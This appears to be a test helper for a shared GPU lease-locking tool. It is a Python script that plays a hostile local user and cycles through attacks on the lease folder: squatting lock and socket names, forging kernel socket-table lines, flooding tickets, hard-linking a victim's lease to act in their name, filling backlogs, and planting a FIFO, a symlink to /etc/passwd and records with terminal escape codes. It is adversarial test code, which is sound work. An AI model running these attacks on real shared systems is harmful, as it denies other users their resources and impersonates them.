"""A hostile user: repeats attacks on the lease folder, in turn, until it is killed. Needs only the standard library.

Words: the folder, its prefix of socket names, the uid of a victim, the device ids, and the names of attacks, both with
commas. Prints the name of each attack while it is under way.
"""

import contextlib
import fcntl
import json
import os
import resource
import socket
import sys
import time
import zlib

FOLDER, PREFIX, VICTIM = sys.argv[1:4]
DEVICES, NAMES = (word.split(",") for word in sys.argv[4:6])
LINE = f"{FOLDER}/tickets" if os.path.isdir(f"{FOLDER}/tickets") else FOLDER
ME = f"{os.geteuid()}-{os.getpid()}"
kept: list = []


def gates():
    """Lock every gate."""
    for device in DEVICES:
        with contextlib.suppress(OSError):
            file = open(f"{FOLDER}/.dibs-gate-{device}")  # noqa: SIM115 - kept until the attack ends
            kept.append(file)
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)


def names():
    """Bind the names of all leases without listening."""
    for device in DEVICES:
        _socket(f"{PREFIX}.gpu.{device}")


def table():
    """Forge lines of the kernel's table of sockets."""
    for number, device in enumerate(DEVICES):
        _socket(f"x{number}\n0: 2 0 00010000 0001 01 {number + 7} @{PREFIX}.gpu.{device}")


def tickets():
    """Request everything, many times, with the earliest possible time."""
    devices = ",".join([*DEVICES, *(f"X{number}" for number in range(9000))])
    for number in range(300):
        _ticket(f"{ME}-{number}", f"5 4 {devices} root\n")
    for number in range(40):
        _socket(f"{PREFIX}.ticket.{ME}-{number}", is_heard=True)


def others():
    """Queue, and be served, in the name of the victim."""
    for device in DEVICES:
        with contextlib.suppress(OSError):
            # All users may write the lease file of the user who came first, and so may link it.
            os.link(f"{FOLDER}/.dibs-lease-{device}", f"{LINE}/.dibs-ticket-{VICTIM}-{os.getpid()}-7")
            kept.append(f"{LINE}/.dibs-ticket-{VICTIM}-{os.getpid()}-7")
        with contextlib.suppress(OSError):
            os.link(f"{FOLDER}/.dibs-lease-{device}", f"{LINE}/.dibs-served-{VICTIM}")
    _ticket(f"{VICTIM}-{os.getpid()}-8", f"5 1 {DEVICES[0]} root\n")
    for number in (7, 8):
        _socket(f"{PREFIX}.ticket.{VICTIM}-{os.getpid()}-{number}", is_heard=True)


def backlogs():
    """Connect to the sockets of all leases until they take no more."""
    for device in DEVICES:
        for _ in range(5000):
            made = socket.socket(socket.AF_UNIX)
            made.setblocking(False)
            try:
                made.connect(f"\0{PREFIX}.gpu.{device}")
            except OSError:
                made.close()
                break
            kept.append(made)


def churn():
    """Change the line constantly."""
    until = time.monotonic() + 0.3
    number = 1000
    while time.monotonic() < until:
        number += 1
        _ticket(f"{ME}-{number}", f"5 1 {DEVICES[0]}\n")
        os.unlink(kept.pop())


def plants():
    """Put files that are no locks at the names of missing gates and leases, and close those that are ours."""
    for kind in ("gate", "lease"):
        for device in DEVICES:
            path = f"{FOLDER}/.dibs-{kind}-{device}"
            with contextlib.suppress(OSError):
                os.mkdir(path)
            with contextlib.suppress(OSError):
                os.chmod(path, 0o600)
                kept.append(contextlib.ExitStack())
                kept[-1].callback(os.chmod, path, 0o1666)


def records():
    """Plant reservations, records of use, marks and bells: in the name of the victim, broken, or without end."""
    now = time.time()
    said = {"uid": 0, "from": now - 3000, "for": 80000, "every": "day", "name": "x\n\x1b[2Jroot"}
    for number in range(12):
        unknown = [f"X{number}-{each}" for each in range(100)]
        for uid, devices in ((VICTIM, DEVICES), ("0", DEVICES), (str(os.geteuid()), unknown)):
            _plant(f".dibs-reserve-{uid}-{number}", json.dumps({**said, "devices": devices}))
    day = int(now // 86400)
    with open("/proc/sys/kernel/random/boot_id") as file:
        boot_id = file.read()
    body = f"{boot_id}day {day} 5000000\nday 99999999999999 5000000\n"
    for uid in [VICTIM, str(os.geteuid()), *map(str, range(80000, 80300))]:
        _plant(f".dibs-usage-{uid}", f"{zlib.crc32(body.encode()):08x}\n{body}")
    for kind, make in (("seen", os.mkfifo), ("served", lambda path: os.symlink("/etc/passwd", path))):
        with contextlib.suppress(OSError):
            make(f"{LINE}/.dibs-{kind}-{VICTIM}")
            kept.append(f"{LINE}/.dibs-{kind}-{VICTIM}")
    for device in [*DEVICES, *(f"X{number}" for number in range(300))]:
        _socket(f"{PREFIX}.evictable.{device}", is_heard=True)
    for number in range(300):
        _socket(f"{PREFIX}.bell.{VICTIM}-{number}", is_heard=True)


def _plant(name, text):
    with contextlib.suppress(OSError), open(f"{LINE}/{name}", "x") as file:
        file.write(text)
        kept.append(f"{LINE}/{name}")


def _socket(name, is_heard=False):
    made = socket.socket(socket.AF_UNIX)
    with contextlib.suppress(OSError):
        made.bind("\0" + name)
        if is_heard:
            made.listen()
    kept.append(made)


def _ticket(name, text):
    path = f"{LINE}/.dibs-ticket-{name}"
    with open(path, "w") as file:
        file.write(text)
    kept.append(path)


def stop():
    """Undo an attack, as far as the folder allows."""
    while kept:
        one = kept.pop()
        if isinstance(one, str):
            with contextlib.suppress(OSError):
                os.unlink(one)
        else:
            one.close()


resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
while True:
    for name in NAMES:
        globals()[name]()
        print(name, flush=True)
        # Longer than anybody waits at a gate.
        time.sleep(1.3 if len(NAMES) > 1 else 3600)
        stop()
